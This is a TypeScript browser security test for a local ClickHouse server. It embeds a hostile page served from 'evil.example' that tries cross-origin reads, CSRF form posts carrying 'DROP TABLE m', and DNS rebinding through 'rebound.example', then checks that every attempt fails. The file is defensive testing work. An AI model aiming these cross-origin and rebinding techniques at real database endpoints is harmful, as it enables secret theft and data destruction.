import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type ClickHouse, startClickHouse } from '@updraft/local';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chromiumPath, whyNoChromium } from './browser/chromium.ts';

const SECRET = 'only-for-those-who-know-the-password';

/** What a page of another origin does: it sends what a browser lets it send, and tells what it could read. */
const PAGE = (target: string, rebound: string) => `<!doctype html><iframe name=frame></iframe><script type=module>
  const told = [];
  const read = async (what, url, init) => {
    const text = await fetch(url, init).then((answer) => answer.text(), (error) => 'refused by the browser: ' + error.message);
    told.push(what + ': ' + text);
  };
  const secret = '?query=SELECT+b+FROM+m';
  for (const host of [${JSON.stringify(target)}, ${JSON.stringify(rebound)}]) {
    await read('GET', host + '/' + secret);
    await read('GET that asks for CORS', host + '/' + secret + '&add_http_cors_header=1');
    await read('GET as default', host + '/' + secret + '&user=default&add_http_cors_header=1');
    await read('GET with cookies', host + '/' + secret, { credentials: 'include' });
    await read('simple POST', host + '/', { method: 'POST', body: 'DROP TABLE m' });
    await read('simple POST, unread', host + '/', { method: 'POST', body: 'DROP TABLE m', mode: 'no-cors' });
    await read('POST with a preflight', host + '/', { method: 'POST', body: 'DROP TABLE m', headers: { 'X-ClickHouse-User': 'default' } });
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: host + '/?query=DROP+TABLE+m', target: 'frame' });
    document.body.append(form);
    form.submit();
    await new Promise((loaded) => document.querySelector('iframe').addEventListener('load', loaded, { once: true }));
    await new Promise((done) => Object.assign(document.head.appendChild(document.createElement('script')), { src: host + '/' + secret, onload: done, onerror: done }));
  }
  await fetch('/told', { method: 'POST', body: JSON.stringify(told) });
</script>`;

describe.skipIf(chromiumPath === undefined)(`in Chromium${whyNoChromium}`, () => {
  let folder: string;
  let server: ClickHouse;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'updraft-browser-'));
    server = await startClickHouse({ dataDir: join(folder, 'data') });
    await ask('CREATE TABLE m (a Int8, b String) ENGINE = MergeTree ORDER BY a');
    await ask(`INSERT INTO m VALUES (1, '${SECRET}')`);
  });

  afterAll(async () => {
    await server?.stop();
    await rm(folder, { recursive: true, force: true });
  });

  async function ask(sql: string): Promise<string> {
    const { username, password } = server.logins.migrations;
    const headers = { 'X-ClickHouse-User': username, 'X-ClickHouse-Key': password };
    return await (await fetch(server.url, { method: 'POST', body: sql, headers })).text();
  }

  test('a page of another origin changes nothing and reads nothing', async () => {
    const told = Promise.withResolvers<string[]>();
    const host = createServer((request, response) => {
      const isTold = request.url === '/told';
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        if (isTold) told.resolve(JSON.parse(body) as string[]);
        response.setHeader('content-type', 'text/html');
        response.end(isTold ? '' : PAGE(server.url, `http://rebound.example:${server.port}`));
      });
    }).listen(0, '127.0.0.1');
    await new Promise((listening) => host.once('listening', listening));
    const page = browse(`http://evil.example:${(host.address() as AddressInfo).port}/`);
    const lines = await told.promise;
    page.child.kill();
    await page.output;
    host.close();
    expect(lines).toHaveLength(14);
    for (const line of lines) expect(line).toMatch(/: (refused by the browser: Failed to fetch)?$/);
    expect(await ask('SELECT b FROM m')).toBe(`${SECRET}\n`);
  });

  test('a name that was made to point here is refused, whatever its page asks as its own origin', async () => {
    const url = `http://rebound.example:${server.port}/?query=SELECT+b+FROM+m`;
    const { output } = browse(url, '--dump-dom');
    expect(await output).toContain('Authentication failed');
    expect(await output).not.toContain(SECRET);
  });

  /** Both names lead to this machine, as an attacker's name server would have it. */
  function browse(url: string, ...flags: string[]) {
    const names = 'MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1';
    const args = [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      `--user-data-dir=${join(folder, 'profile')}`,
      ...flags,
    ];
    const { promise: output, resolve } = Promise.withResolvers<string>();
    const child = execFile(chromiumPath ?? '', [...args, `--host-resolver-rules=${names}`, url], (_error, stdout) =>
      resolve(stdout),
    );
    return { child, output };
  }
});
